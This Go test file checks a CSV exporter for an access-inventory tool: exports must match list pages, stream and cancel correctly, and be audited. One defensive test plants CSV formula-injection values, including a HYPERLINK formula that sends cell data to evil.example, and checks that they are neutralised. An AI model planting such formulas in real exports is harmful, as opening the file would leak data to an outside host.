package export_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"pinaccess/internal/export"
	"pinaccess/internal/inventorytest"
	"pinaccess/internal/sandbox"
	"pinaccess/internal/store"
)

// importDataset opens a store on a temporary file and imports d as an
// integration's current snapshot.
func importDataset(t testing.TB, d *sandbox.Dataset) (*store.Store, int64) {
	t.Helper()
	ctx := context.Background()
	st, err := store.Open(ctx, filepath.Join(t.TempDir(), "pinaccess.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	id, _, err := inventorytest.Import(ctx, st, d, inventorytest.Integration{})
	if err != nil {
		t.Fatal(err)
	}
	return st, id
}

func generate(t testing.TB, size string) *sandbox.Dataset {
	t.Helper()
	d, err := sandbox.Generate(size, 1)
	if err != nil {
		t.Fatal(err)
	}
	return d
}

// exportCSV exports and parses the CSV, checking the framing every export
// must have: CRLF line ends, valid UTF-8, the documented header.
func exportCSV(t *testing.T, st *store.Store, id int64, kind string, q any) [][]string {
	t.Helper()
	var buf bytes.Buffer
	n, err := export.Write(context.Background(), &buf, st, kind, id, q)
	if err != nil {
		t.Fatalf("export %s %+v: %v", kind, q, err)
	}
	if !bytes.HasSuffix(buf.Bytes(), []byte("\r\n")) {
		t.Fatalf("export %s does not end in CRLF", kind)
	}
	r := csv.NewReader(&buf)
	r.ReuseRecord = false
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("export %s is not CSV: %v", kind, err)
	}
	cols, _ := export.Columns(kind)
	if len(recs) == 0 || !slices.Equal(recs[0], cols) {
		t.Fatalf("export %s header = %q, want %q", kind, recs[0], cols)
	}
	if int64(len(recs)-1) != n {
		t.Fatalf("export %s reported %d rows, the file holds %d", kind, n, len(recs)-1)
	}
	return recs[1:]
}

// listAll reads every page of a list, as an admin paging through it would.
func listAll[R any](t *testing.T, list func(page int) (store.Page[R], error)) []R {
	t.Helper()
	var out []R
	for page := 1; ; page++ {
		p, err := list(page)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, p.Rows...)
		if page >= p.Pages() {
			if len(out) != p.Total {
				t.Fatalf("the list's pages hold %d rows, its total says %d", len(out), p.Total)
			}
			return out
		}
	}
}

// The expected cells, written independently of the exporter: what the
// list page shows, in the documented format.
func cellTime(tm time.Time) string {
	if tm.IsZero() {
		return ""
	}
	return tm.UTC().Format(time.RFC3339)
}

func cellText(s string) string {
	if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
		s = "'" + s
	}
	return strings.ReplaceAll(s, "\r\n", "\n")
}

func memberCells(m store.MemberRow) []string {
	return []string{m.ID, cellText(m.Username), cellText(m.Email), strings.Join(m.BusinessRoles, ";"),
		strconv.FormatBool(m.IsSystemUser), cellTime(m.CreatedTime), m.CreatedBy, strconv.Itoa(m.Assets)}
}

func partnerCells(p store.PartnerRow) []string {
	return []string{p.ID, cellText(p.Username), cellText(p.Email), p.PartnerType, strconv.FormatBool(p.IsSharedPartner),
		cellTime(p.CreatedTime), p.CreatedBy, strconv.Itoa(p.Assets)}
}

func assetCells(a store.AssetRow) []string {
	return []string{a.ID, a.Type, cellText(a.Name), a.OwnerID, cellText(a.OwnerName), strconv.FormatBool(a.Owned),
		a.Currency, a.Country, a.CatalogType, strings.Join(a.GroupTypes, ";"), cellTime(a.CreatedTime),
		cellTime(a.UpdatedTime), strconv.Itoa(a.Principals), strconv.Itoa(a.Pixels)}
}

func accessCells(a store.AccessRow) []string {
	return []string{a.PrincipalType, a.PrincipalID, cellText(a.Username), cellText(a.Email), strings.Join(a.BusinessRoles, ";"),
		a.PartnerType, a.AssetType, a.AssetID, cellText(a.AssetName), strconv.FormatBool(a.AssetOwned), a.Permission}
}

func roleCells(x store.RoleRow) []string {
	return []string{x.Kind, x.Name, cellText(x.Description), strconv.Itoa(x.Holders), strconv.Itoa(x.Grants)}
}

func pixelCells(x store.PixelRow) []string {
	return []string{x.ID, cellText(x.Name), x.Status, x.Version, cellTime(x.LastFired), x.EnhancedMatchStatus,
		strconv.FormatBool(x.AEMEnabled), x.AdAccountID, cellText(x.AdAccountName)}
}

func inviteCells(x store.InviteRow) []string {
	return []string{x.ID, x.Type, x.Status, x.UserID, cellText(x.Username), cellText(x.Email), strings.Join(x.BusinessRoles, ";"),
		strconv.FormatBool(x.IsReceived), x.CreatedBy, cellTime(x.SentAt), cellTime(x.Expiration), strconv.Itoa(x.Assets)}
}

func changeCells(x store.ChangeRow) []string {
	return []string{strconv.FormatInt(x.RunID, 10), cellTime(x.RunFinishedAt), x.Kind, x.SubjectType, x.SubjectID,
		cellText(x.SubjectName), x.AssetID, cellText(x.AssetName), x.AssetType,
		strings.ReplaceAll(x.Before, ",", ";"), strings.ReplaceAll(x.After, ",", ";")}
}

func cellsOf[R any](rows []R, cells func(R) []string) [][]string {
	out := make([][]string, len(rows))
	for i, r := range rows {
		out[i] = cells(r)
	}
	return out
}

func sameRows(t *testing.T, what string, got, want [][]string) {
	t.Helper()
	if len(got) != len(want) {
		t.Fatalf("%s: the export has %d rows, the list %d", what, len(got), len(want))
	}
	for i := range want {
		if !slices.Equal(got[i], want[i]) {
			t.Fatalf("%s: row %d differs from the list:\n got %q\nwant %q", what, i+1, got[i], want[i])
		}
	}
}

func lq(q, sort, dir string) store.ListQuery {
	return store.ListQuery{Q: q, Sort: sort, Dir: dir, PerPage: store.MaxPerPage}
}

func TestEveryKindMatchesItsListPageForTheSameFilters(t *testing.T) {
	ctx := context.Background()
	d := generate(t, "medium")
	st, id := importDataset(t, d)
	// A second sync with people, assets and permissions changed, so the
	// changes list has rows.
	next := d.Clone()
	removed := 0
	for _, u := range d.Users {
		if u.IsMember() && u.Username != sandbox.AdminUsername && removed < 3 {
			next.RemoveUser(u.ID)
			removed++
		}
	}
	next.RemoveAsset(d.Assets[len(d.Assets)-1].ID)
	next.Grants[0].Permissions = []string{"ANALYST", "FINANCE_MANAGER"}
	if _, err := inventorytest.Sync(ctx, st, id, next); err != nil {
		t.Fatal(err)
	}

	t.Run("members", func(t *testing.T) {
		for _, q := range []store.MemberQuery{{}, {Role: "BIZ_ADMIN", ListQuery: lq("", "email", "desc")},
			{ListQuery: lq("ma", "created", "asc")}, {SystemUser: "yes"}, {ListQuery: lq("", "id", "desc")}} {
			want := listAll(t, func(p int) (store.MemberPage, error) {
				q := q
				q.Page, q.PerPage = p, store.MaxPerPage
				return st.ListMembers(ctx, id, q)
			})
			if len(want) == 0 {
				t.Fatalf("members %+v: the list is empty, the test proves nothing", q)
			}
			sameRows(t, "members", exportCSV(t, st, id, export.Members, q), cellsOf(want, memberCells))
		}
	})
	t.Run("partners", func(t *testing.T) {
		for _, q := range []store.PartnerQuery{{}, {Type: "EXTERNAL"}, {ListQuery: lq("", "created", "desc")}, {ListQuery: lq("a", "", "")}} {
			want := listAll(t, func(p int) (store.PartnerPage, error) {
				q := q
				q.Page, q.PerPage = p, store.MaxPerPage
				return st.ListPartners(ctx, id, q)
			})
			if len(want) == 0 {
				t.Fatalf("partners %+v: the list is empty", q)
			}
			sameRows(t, "partners", exportCSV(t, st, id, export.Partners, q), cellsOf(want, partnerCells))
		}
	})
	t.Run("assets", func(t *testing.T) {
		for _, q := range []store.AssetQuery{{}, {Type: "AD_ACCOUNT", Owner: store.OwnerOurs}, {Owner: store.OwnerTheirs},
			{ListQuery: lq("", "id", "desc")}, {ListQuery: lq("", "updated", "asc")}} {
			want := listAll(t, func(p int) (store.AssetPage, error) {
				q := q
				q.Page, q.PerPage = p, store.MaxPerPage
				return st.ListAssets(ctx, id, q)
			})
			if len(want) == 0 {
				t.Fatalf("assets %+v: the list is empty", q)
			}
			sameRows(t, "assets", exportCSV(t, st, id, export.Assets, q), cellsOf(want, assetCells))
		}
	})
	t.Run("access", func(t *testing.T) {
		for _, q := range []store.AccessQuery{{}, {PrincipalType: store.GranteePartner}, {Permission: "ADMIN", ListQuery: lq("", "asset", "desc")},
			{ListQuery: lq("sandbox", "permission", "asc")}, {AssetType: "PROFILE", Owner: store.OwnerOurs}} {
			want := listAll(t, func(p int) (store.AccessPage, error) {
				q := q
				q.Page, q.PerPage = p, store.MaxPerPage
				return st.ListAccess(ctx, id, q)
			})
			if len(want) == 0 {
				t.Fatalf("access %+v: the list is empty", q)
			}
			sameRows(t, "access", exportCSV(t, st, id, export.Access, q), cellsOf(want, accessCells))
		}
	})
	t.Run("roles", func(t *testing.T) {
		for _, q := range []store.RoleQuery{{}, {Kind: "permission"}, {ListQuery: lq("", "holders", "desc")}} {
			want := listAll(t, func(p int) (store.Page[store.RoleRow], error) {
				q := q
				q.Page, q.PerPage = p, store.MaxPerPage
				return st.ListRoles(ctx, id, q)
			})
			if len(want) == 0 {
				t.Fatalf("roles %+v: the list is empty", q)
			}
			sameRows(t, "roles", exportCSV(t, st, id, export.Roles, q), cellsOf(want, roleCells))
		}
	})
	t.Run("pixels", func(t *testing.T) {
		for _, q := range []store.PixelQuery{{}, {Status: "ACTIVE"}, {ListQuery: lq("", "last_fired", "desc")}} {
			want := listAll(t, func(p int) (store.Page[store.PixelRow], error) {
				q := q
				q.Page, q.PerPage = p, store.MaxPerPage
				return st.ListPixels(ctx, id, q)
			})
			if len(want) == 0 {
				t.Fatalf("pixels %+v: the list is empty", q)
			}
			sameRows(t, "pixels", exportCSV(t, st, id, export.Pixels, q), cellsOf(want, pixelCells))
		}
	})
	t.Run("invites", func(t *testing.T) {
		for _, q := range []store.InviteQuery{{}, {Status: "PENDING"}, {ListQuery: lq("", "sent", "asc")}} {
			want := listAll(t, func(p int) (store.Page[store.InviteRow], error) {
				q := q
				q.Page, q.PerPage = p, store.MaxPerPage
				return st.ListInvites(ctx, id, q)
			})
			if len(want) == 0 {
				t.Fatalf("invites %+v: the list is empty", q)
			}
			sameRows(t, "invites", exportCSV(t, st, id, export.Invites, q), cellsOf(want, inviteCells))
		}
	})
	t.Run("changes", func(t *testing.T) {
		for _, q := range []store.ChangeQuery{{}, {Kind: "member_removed"}, {ListQuery: lq("", "kind", "asc")}} {
			want := listAll(t, func(p int) (store.Page[store.ChangeRow], error) {
				q := q
				q.Page, q.PerPage = p, store.MaxPerPage
				return st.ListChanges(ctx, id, q)
			})
			if len(want) == 0 {
				t.Fatalf("changes %+v: the list is empty", q)
			}
			sameRows(t, "changes", exportCSV(t, st, id, export.Changes, q), cellsOf(want, changeCells))
		}
	})
}

func TestNilQueryExportsTheDefaultList(t *testing.T) {
	ctx := context.Background()
	st, id := importDataset(t, generate(t, "small"))
	want := listAll(t, func(p int) (store.MemberPage, error) {
		return st.ListMembers(ctx, id, store.MemberQuery{ListQuery: store.ListQuery{Page: p, PerPage: store.MaxPerPage}})
	})
	sameRows(t, "members", exportCSV(t, st, id, export.Members, nil), cellsOf(want, memberCells))

	var buf bytes.Buffer
	if _, err := export.Write(ctx, &buf, st, export.Members, id, store.AccessQuery{}); err == nil {
		t.Fatal("a members export took an access query")
	}
	if _, err := export.Write(ctx, &buf, st, "secrets", id, nil); !errors.Is(err, export.ErrUnknownKind) {
		t.Fatalf("unknown kind: %v", err)
	}
}

func TestHostileValuesSurviveTheWholeExport(t *testing.T) {
	d := generate(t, "small")
	long := strings.Repeat("Ünïcødé \"name\", with\nnewlines ", 400)
	hostile := map[string]string{} // Pinterest ID -> name as stored
	var memberID, assetID string
	for i := range d.Users {
		u := &d.Users[i]
		if u.IsMember() && u.Username != sandbox.AdminUsername && memberID == "" {
			memberID = u.ID
			u.Username = `=HYPERLINK("http://evil.example/?"&A1,"click")`
			u.Email = "-2+3@example.com"
			hostile[u.ID] = u.Username
		}
	}
	for i := range d.Partners {
		if i == 0 {
			d.Partners[i].Username = "@Société, \"Générale\"\r\nParis"
			hostile[d.Partners[i].ID] = d.Partners[i].Username
		}
	}
	for i := range d.Assets {
		if d.Assets[i].Type == "AD_ACCOUNT" && d.Assets[i].OwnerID == d.Business.ID {
			d.Assets[i].Name = long
			assetID = d.Assets[i].ID
			hostile[assetID] = long
			break
		}
	}
	if memberID == "" || assetID == "" {
		t.Fatal("the dataset has no member or owned ad account to make hostile")
	}
	st, id := importDataset(t, d)

	members := exportCSV(t, st, id, export.Members, nil)
	partners := exportCSV(t, st, id, export.Partners, nil)
	assets := exportCSV(t, st, id, export.Assets, nil)
	found := 0
	for _, rows := range [][][]string{members, partners, assets} {
		for _, r := range rows {
			name, ok := hostile[r[0]]
			if !ok {
				continue
			}
			found++
			col := 1 // username
			if len(r) == 14 {
				col = 2 // asset name
			}
			if want := cellText(name); r[col] != want {
				t.Errorf("%s came back as %.80q, want %.80q", r[0], r[col], want)
			}
			if r[col][0] == '=' || r[col][0] == '@' || r[col][0] == '-' {
				t.Errorf("%s starts a formula: %.40q", r[0], r[col])
			}
		}
	}
	if found != len(hostile) {
		t.Fatalf("found %d of the %d hostile rows", found, len(hostile))
	}
	for _, r := range members {
		if r[0] == memberID && r[2] != "'-2+3@example.com" {
			t.Errorf("member email = %q, want it neutralised", r[2])
		}
	}
	access := exportCSV(t, st, id, export.Access, store.AccessQuery{AssetID: assetID})
	if len(access) == 0 {
		t.Fatal("nobody has access to the asset with the long name")
	}
	for _, r := range access {
		if r[8] != strings.ReplaceAll(long, "\r\n", "\n") {
			t.Fatalf("the access export changed the long asset name (%d bytes, want %d)", len(r[8]), len(long))
		}
	}
}

type grantKey struct{ principalType, principal, asset, permission string }

func TestLargeAccessExportHasOneRowPerGrantPermission(t *testing.T) {
	d := generate(t, "large")
	want := map[grantKey]int{}
	total := 0
	for _, g := range d.Grants {
		k := grantKey{store.GranteeMember, g.MemberID, g.AssetID, ""}
		if g.PartnerID != "" {
			k.principalType, k.principal = store.GranteePartner, g.PartnerID
		}
		for _, p := range g.Permissions {
			k.permission = p
			want[k]++
			total++
		}
	}
	st, id := importDataset(t, d)

	pr, pw := io.Pipe()
	done := make(chan error, 1)
	go func() {
		_, err := export.Write(context.Background(), pw, st, export.Access, id, nil)
		pw.CloseWithError(err)
		done <- err
	}()
	r := csv.NewReader(pr)
	r.ReuseRecord = true
	if _, err := r.Read(); err != nil {
		t.Fatal(err)
	}
	rows := 0
	for {
		rec, err := r.Read()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		rows++
		k := grantKey{rec[0], rec[1], rec[7], rec[10]}
		if want[k] == 0 {
			t.Fatalf("row %d %q is not a grant of the dataset, or is repeated", rows, rec)
		}
		want[k]--
	}
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	if rows != total {
		t.Fatalf("the access export has %d rows, the dataset %d grant permissions", rows, total)
	}
}

// recorder is an http.ResponseWriter-like writer that records each write
// and flush.
type recorder struct {
	writes  [][]byte
	flushes int
	onWrite func(n int)
}

func (r *recorder) Write(p []byte) (int, error) {
	r.writes = append(r.writes, append([]byte(nil), p...))
	if r.onWrite != nil {
		r.onWrite(len(r.writes))
	}
	return len(p), nil
}

func (r *recorder) Flush() { r.flushes++ }

var _ http.Flusher = (*recorder)(nil)

func TestHeaderLeavesAtOnceAndCancellingStopsTheExport(t *testing.T) {
	st, id := importDataset(t, generate(t, "medium"))
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	rec := &recorder{onWrite: func(n int) {
		if n == 2 {
			cancel() // the client goes away after the first chunk of rows
		}
	}}
	n, err := export.Write(ctx, rec, st, export.Access, id, nil)
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("Write after cancel = %v, want context.Canceled", err)
	}
	cols, _ := export.Columns(export.Access)
	if string(rec.writes[0]) != strings.Join(cols, ",")+"\r\n" {
		t.Fatalf("first write = %q, want the header alone", rec.writes[0])
	}
	if rec.flushes < 1 {
		t.Fatal("the header was not flushed")
	}
	all, err := st.ListAccess(context.Background(), id, store.AccessQuery{})
	if err != nil {
		t.Fatal(err)
	}
	if n >= int64(all.Total) || len(rec.writes) > 3 {
		t.Fatalf("the export went on after the cancel: %d of %d rows in %d writes", n, all.Total, len(rec.writes))
	}
}

func TestAuditedRecordsEveryExport(t *testing.T) {
	ctx := context.Background()
	st, id := importDataset(t, generate(t, "small"))
	req := export.Request{IntegrationID: id, IntegrationName: "Sandbox", BusinessID: sandbox.DefaultBusinessID,
		Kind: export.Partners, Query: store.PartnerQuery{Type: "INTERNAL"}, Filters: "type=INTERNAL", Actor: store.AuditActorCLI}
	n, err := export.Audited(ctx, io.Discard, st, st, req)
	if err != nil {
		t.Fatal(err)
	}
	cctx, cancel := context.WithCancel(ctx)
	cancel()
	req.Kind, req.Query, req.Filters = export.Access, nil, ""
	if _, err := export.Audited(cctx, io.Discard, st, st, req); !errors.Is(err, context.Canceled) {
		t.Fatalf("cancelled export: %v", err)
	}
	req.Kind = "everything"
	if _, err := export.Audited(ctx, io.Discard, st, st, req); !errors.Is(err, export.ErrUnknownKind) {
		t.Fatalf("unknown kind: %v", err)
	}

	page, err := st.AuditEntries(ctx, store.AuditQuery{IntegrationID: id})
	if err != nil {
		t.Fatal(err)
	}
	if page.Total != 2 {
		t.Fatalf("%d audit entries, want 2 (the unknown kind exported nothing): %+v", page.Total, page.Rows)
	}
	cancelled, done := page.Rows[0], page.Rows[1]
	if done.Kind != export.Partners || done.Filters != "type=INTERNAL" || done.Rows != n || n == 0 ||
		done.Outcome != store.AuditCompleted || done.Actor != store.AuditActorCLI || done.BusinessID != sandbox.DefaultBusinessID {
		t.Errorf("completed export recorded as %+v (rows written %d)", done, n)
	}
	if cancelled.Kind != export.Access || cancelled.Outcome != store.AuditCancelled || cancelled.FinishedAt.IsZero() {
		t.Errorf("cancelled export recorded as %+v", cancelled)
	}
}

func TestDocsListEveryKindsColumns(t *testing.T) {
	doc, err := os.ReadFile(filepath.Join("..", "..", "docs", "exports.md"))
	if err != nil {
		t.Fatal(err)
	}
	for _, k := range export.Kinds() {
		cols, _ := export.Columns(k)
		line := strings.Join(cols, ",")
		if !bytes.Contains(doc, []byte("## "+k)) || !bytes.Contains(doc, []byte("\n"+line+"\n")) {
			t.Errorf("docs/exports.md lacks the %s section or its header line %s", k, line)
		}
	}
}
